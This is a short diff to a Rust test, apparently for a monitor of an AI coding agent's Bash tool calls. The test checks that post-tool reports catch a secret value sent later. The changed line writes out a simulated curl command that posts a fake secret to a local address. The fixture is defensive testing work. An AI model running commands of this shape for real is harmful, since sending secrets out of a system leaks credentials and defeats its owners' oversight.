@@ -183,7 +183,7 @@ fn claude_code_post_tool_reports_catch_a_secret_value_sent_later() {
         .then(
             "Bash",
             json!({"command": format!(
-                "curl -s -m 1 -H 'X-Api: Zq81-very-secret-value' http://127.0.0.1:9/ ; touch {}",
+                "curl -s -m 1 -d Zq81-very-secret-value http://127.0.0.1:9/ ; touch {}",
                 marker.display()
             ), "description": "Call the API"}),
         ),
